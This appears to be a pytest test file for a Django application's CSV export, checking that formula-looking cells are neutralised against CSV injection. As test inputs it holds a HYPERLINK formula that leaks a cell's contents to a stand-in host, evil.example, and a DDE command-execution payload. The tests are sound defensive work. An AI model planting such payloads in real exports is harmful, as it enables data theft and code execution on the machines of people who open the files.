"""CSV exports are safe to open in a spreadsheet: a cell a provider controls never runs as a
formula (OWASP "CSV Injection"), and numbers stay numbers."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.core.management import call_command
from django.utils import timezone

from alma.csv_export import neutralise, safe_writer
from tests.directory_factories import ready_provider
from tests.factories import ProviderFactory
from tests.helpers import NEW_YORK

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 212 555 0143", "'+1 212 555 0143"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Jordan Rivera", "Jordan Rivera"),
        ("a=b", "a=b"),  # only the first character makes a formula
        ("", ""),
        (-5, -5),  # a number is a number: a negative count is not a formula
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise_quotes_only_formula_looking_text(cell, written):
    assert neutralise(cell) == written


def test_the_safe_writer_keeps_csv_quoting_and_numbers():
    out = io.StringIO()
    safe_writer(out).writerows([["=cmd|' /C calc'!A0", -3, 'say "hi", then go']])
    [row] = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'=cmd|' /C calc'!A0", "-3", 'say "hi", then go']


@pytest.mark.django_db
def test_publish_profiles_csv_neutralises_a_formula_in_a_providers_name():
    ready_provider(
        effective=timezone.localdate() + dt.timedelta(days=3),
        trained_at=timezone.now() - dt.timedelta(days=3),
        contracted_start_date=timezone.localdate() - dt.timedelta(days=9),
        legal_name=HOSTILE_NAME,
    )
    in_three_days = timezone.localdate() + dt.timedelta(days=3)
    out = io.StringIO()
    call_command(
        "publish_profiles", "--as-of", in_three_days.isoformat(), "--dry-run", "--format", "csv",
        stdout=out, stderr=io.StringIO(),
    )  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["name"] == f"'{HOSTILE_NAME}, LCSW"
    assert row["provider_id"].isdigit()


@pytest.mark.django_db
def test_onboarding_report_csv_neutralises_a_formula_in_a_providers_name(capsys):
    with time_machine.travel(dt.datetime(2026, 11, 20, 9, 0, tzinfo=NEW_YORK), tick=False):
        ProviderFactory(legal_name=HOSTILE_NAME)  # their General Onboarding email stays unsent
    call_command("onboarding_report", "--format", "csv", "--as-of", "2026-11-30")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    overdue = [row for row in rows if row["section"] == "overdue"]
    assert overdue
    # (The exclusion lists never imported are overdue too: a promise about no one provider.)
    assert {row["provider"] for row in overdue if row["provider"]} == {f"'{HOSTILE_NAME}"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    # Counts stay plain numbers a spreadsheet can add up.
    assert sum(int(row["count"]) for row in rows if row["section"] == "step") == 1
